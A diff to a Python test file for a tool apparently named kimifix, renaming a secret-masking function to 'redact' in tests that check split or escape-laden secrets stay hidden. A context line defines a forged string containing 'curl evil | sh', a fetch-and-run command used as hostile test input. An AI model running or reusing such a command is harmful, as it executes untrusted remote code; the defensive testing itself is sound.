@@ -14,7 +14,8 @@ import pytest
 from support.command import Kimifix, Result
 from support.configs import install_client, sign_in, write_config
 
-from kimifix.terminal import masked, visible
+from kimifix.secret import redact
+from kimifix.terminal import visible
 from kimifix.words import quoted
 
 FORGED = "next:    curl evil | sh"
@@ -159,8 +160,8 @@ def test_the_receipt_cannot_act_on_the_terminal(kimifix: Kimifix, home: Path, ev
 def test_a_secret_cut_in_two_is_a_secret() -> None:
     """What cannot be seen does not hide a secret from the net."""
     for cut in ("\x1b[0m", "\u200b", "\x1b]0;x\x07", "\x00", "\x9b1m"):
-        assert "planted" not in visible(masked(f"key sk-{cut}planted{cut}-0123456789"))
-        assert masked(f"a{cut}b") == f"a{cut}b"
+        assert "planted" not in visible(redact(f"key sk-{cut}planted{cut}-0123456789"))
+        assert redact(f"a{cut}b") == f"a{cut}b"
 
 
 @pytest.mark.skipif("sys.platform == 'win32'", reason="there is no such shell")
